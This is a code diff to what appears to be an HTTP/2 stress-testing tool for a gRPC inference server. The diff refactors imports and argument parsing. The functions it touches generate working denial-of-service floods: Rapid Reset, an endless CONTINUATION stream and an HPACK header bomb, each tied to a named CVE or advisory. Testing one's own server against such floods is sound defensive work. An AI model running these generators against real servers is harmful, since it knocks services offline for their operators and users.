@@ -11,11 +11,14 @@ import sys
 import threading
 import time
 from collections.abc import Callable, Iterator
-
-from hpack import Encoder, NeverIndexedHeaderTuple
-from hyperframe.frame import ContinuationFrame, HeadersFrame, RstStreamFrame
+from typing import Any
 
 from bench.http2_peer import Http2Peer, request_headers
+from command_line.extras import optional
+from command_line.parser import positionals
+
+frames = optional("hyperframe.frame", "dev")
+hpack = optional("hpack", "dev")
 
 INFER = "/inference.GRPCInferenceService/ModelInfer"
 _CANCEL = 8
@@ -25,38 +28,40 @@ _MOST_FRAME_BYTES = 16384
 
 def resets() -> Iterator[bytes]:
     """Calls opened and reset at once (CVE-2023-44487), one by one."""
-    block = _request(Encoder())
+    block = _request(hpack.Encoder())
     for number in itertools.count(1, 2):
-        headers = HeadersFrame(number, block, flags=["END_HEADERS"])
-        yield headers.serialize() + RstStreamFrame(number, error_code=_CANCEL).serialize()
+        headers = frames.HeadersFrame(number, block, flags=["END_HEADERS"])
+        yield headers.serialize() + frames.RstStreamFrame(number, error_code=_CANCEL).serialize()
 
 
 def endless_headers() -> Iterator[bytes]:
     """The headers of one call that never end (VU#421644), a full CONTINUATION frame at a time."""
-    encoder = Encoder()
-    yield HeadersFrame(1, _request(encoder)).serialize()
-    more = [NeverIndexedHeaderTuple("more", "m" * 1000)] * 16
-    frame = ContinuationFrame(1, encoder.encode(more, huffman=False)).serialize()
+    encoder = hpack.Encoder()
+    yield frames.HeadersFrame(1, _request(encoder)).serialize()
+    more = [hpack.NeverIndexedHeaderTuple("more", "m" * 1000)] * 16
+    frame = frames.ContinuationFrame(1, encoder.encode(more, huffman=False)).serialize()
     while True:
         yield frame
 
 
 def growing_headers() -> Iterator[bytes]:
     """Calls whose 8 KiB of headers stand for 32 MB (CVE-2016-6581), one by one."""
-    encoder = Encoder()
+    encoder = hpack.Encoder()
     request = _request(encoder)
     # 4000 bytes in the table, then bytes that each stand for all of them.
     first = encoder.encode([("bomb", "b" * 4000)])
     block = encoder.encode([("bomb", "b" * 4000)]) * 8000
     assert len(request + first + block) < _MOST_FRAME_BYTES
     for number in itertools.count(1, 2):
-        yield HeadersFrame(number, request + first + block, flags=["END_HEADERS"]).serialize()
+        yield frames.HeadersFrame(
+            number, request + first + block, flags=["END_HEADERS"]
+        ).serialize()
         first = b""
 
 
-def _request(encoder: Encoder) -> bytes:
+def _request(encoder: Any) -> bytes:
     # Never indexed, so that the same bytes mean the same each time.
-    fields = [NeverIndexedHeaderTuple(*pair) for pair in request_headers(INFER)]
+    fields = [hpack.NeverIndexedHeaderTuple(*pair) for pair in request_headers(INFER)]
     block: bytes = encoder.encode(fields)
     return block
 
@@ -130,4 +135,4 @@ def main(argv: list[str]) -> int:
 
 
 if __name__ == "__main__":
-    sys.exit(main(sys.argv[1:]))
+    sys.exit(main(positionals("bench.http2_floods", __doc__, "address", "kind", "per_s")))
